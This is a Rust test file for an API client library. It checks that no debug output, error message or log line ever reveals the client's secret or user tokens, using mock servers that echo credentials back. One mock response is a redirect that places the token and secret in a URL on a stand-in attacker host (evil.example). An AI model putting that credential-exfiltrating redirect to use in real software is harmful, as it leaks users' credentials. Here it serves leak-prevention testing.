//! A run through everything that can go wrong, searched for secrets.

use std::cell::RefCell;
use std::fmt::Write as _;
use std::sync::Once;

use tracing::field::{Field, Visit};
use tracing::span::{Attributes, Id, Record};
use tracing::subscriber::Interest;
use tracing::{Event, Metadata, Subscriber};

use super::server::{json, response};
use super::*;
use crate::Token;

thread_local! {
    static LOG: RefCell<Option<String>> = const { RefCell::new(None) };
}

/// Collects what this thread traces, at every level, also by the crates below.
pub(super) struct Log;

impl Log {
    pub(super) fn start() -> Self {
        // One subscriber for all threads: tracing caches whether anyone listens.
        static INSTALL: Once = Once::new();
        INSTALL.call_once(|| tracing::subscriber::set_global_default(Collector).unwrap());
        LOG.set(Some(String::new()));
        Self
    }

    pub(super) fn text(&self) -> String {
        LOG.with_borrow(|log| log.clone().unwrap())
    }
}

impl Drop for Log {
    fn drop(&mut self) {
        LOG.set(None);
    }
}

struct Collector;

impl Collector {
    fn write(line: std::fmt::Arguments<'_>) {
        LOG.with_borrow_mut(|log| writeln!(log.as_mut().unwrap(), "{line}").unwrap());
    }
}

struct Fields;

impl Visit for Fields {
    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
        Collector::write(format_args!("{}={value:?}", field.name()));
    }

    fn record_str(&mut self, field: &Field, value: &str) {
        Collector::write(format_args!("{}={value}", field.name()));
    }
}

impl Subscriber for Collector {
    fn register_callsite(&self, _: &'static Metadata<'static>) -> Interest {
        Interest::sometimes()
    }
    fn enabled(&self, _: &Metadata<'_>) -> bool {
        LOG.with_borrow(Option::is_some)
    }
    fn new_span(&self, attributes: &Attributes<'_>) -> Id {
        attributes.record(&mut Fields);
        Id::from_u64(1)
    }
    fn record(&self, _: &Id, values: &Record<'_>) {
        values.record(&mut Fields);
    }
    fn record_follows_from(&self, _: &Id, _: &Id) {}
    fn event(&self, event: &Event<'_>) {
        event.record(&mut Fields);
    }
    fn enter(&self, _: &Id) {}
    fn exit(&self, _: &Id) {}
}

/// Everything an error shows, with all its causes.
fn shown(error: &Error) -> String {
    let mut text = format!(
        "{error}\n{error:?}\n{error:#?}\n{:?}\n{:?}",
        error.api(),
        error.body_excerpt()
    );
    let mut cause = std::error::Error::source(error);
    while let Some(error) = cause {
        write!(text, "\n{error}\n{error:?}").unwrap();
        cause = error.source();
    }
    text
}

const PROVIDED: &str = "eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyX2lkIjoiYW5hIn0.provided-signature";
/// Not a JWT, so only knowing it helps.
const OPAQUE: &str = "opaque-provided-token";

/// Responses that repeat back whatever secret there is.
fn echoing(token: &str) -> Vec<Vec<u8>> {
    let both = format!("{SECRET} and {token}");
    let error = format!(
        r#"{{"code":5,"message":"{both}","more_info":"{both}","details":{{"x":"{both}"}},"exception_fields":{{"{both}":"{both}"}}}}"#
    );
    vec![
        json("400 Bad Request", &error),
        json("401 Unauthorized", &error),
        json("503 Service Unavailable", &error),
        json("200 OK", &error),
        response(
            "502 Bad Gateway",
            "content-type: text/html\r\n",
            format!("<p>{both}</p>"),
        ),
        response(
            "200 OK",
            "content-type: text/html\r\n",
            format!("<p>{both}</p>"),
        ),
        json("200 OK", format!(r#"{{"name":["{both}"]}}"#)),
        json("200 OK", format!(r#"{{"name":"a","at":"{both}"}}"#)),
        json("200 OK", format!(r#"{{"{both}":"#)),
        response(
            "302 Found",
            &format!("location: https://evil.example/?t={token}&s={SECRET}\r\n"),
            "",
        ),
        b"HTTP/1.1 200 OK\r\ncontent-length: 99\r\n\r\n{".to_vec(),
    ]
}

#[tokio::test]
async fn no_debug_display_log_line_or_error_shows_secret_or_token() {
    let log = Log::start();
    let mut text = String::new();
    let signed = Client::new("key1", SECRET)
        .unwrap()
        .user_token("x")
        .sign()
        .unwrap();
    writeln!(text, "{signed:?}").unwrap();
    let mut errors = 0;
    // Setting up TLS three hundred times would take longer than everything else.
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .unwrap();
    for token in [PROVIDED, OPAQUE, signed.as_str()] {
        for bytes in echoing(token) {
            let server = Server::always(move || Reply::Close(bytes.clone())).await;
            let owned = token.to_owned();
            let source = move || {
                let token = Token::new(owned.clone());
                async move { Ok(token) }
            };
            for builder in [
                builder(&server),
                builder(&server).user_token(token),
                builder(&server).token_source(source),
            ] {
                writeln!(text, "{builder:?}").unwrap();
                let client = builder.http_client(http.clone()).build().unwrap();
                writeln!(
                    text,
                    "{client:?} {:?} {:?}",
                    parts(&client, &GET),
                    client.call("a", "b")
                )
                .unwrap();
                // Each client knows its own token; the JWTs are recognised by their looks.
                let knows = !format!("{client:?}").contains("Fixed") || token != OPAQUE;
                for operation in [&GET, &POST] {
                    match call(&client, operation).await {
                        Ok(response) => writeln!(text, "{response:?}").unwrap(),
                        Err(error) if knows => {
                            errors += 1;
                            text.push_str(&shown(&error));
                        }
                        Err(_) => {}
                    }
                }
            }
        }
    }
    assert!(errors > 100, "{errors}");
    let logged = log.text();
    assert!(logged.contains("operation=GetThing"));
    for (place, text) in [("errors and debug", &text), ("log", &logged)] {
        for secret in [
            SECRET,
            OPAQUE,
            PROVIDED,
            signed.as_str(),
            "provided-signature",
            "eyJ",
        ] {
            let at = text.find(secret);
            assert!(
                at.is_none(),
                "{secret} in {place}: {}",
                &text[at.unwrap().saturating_sub(200)..][..300]
            );
        }
    }
}
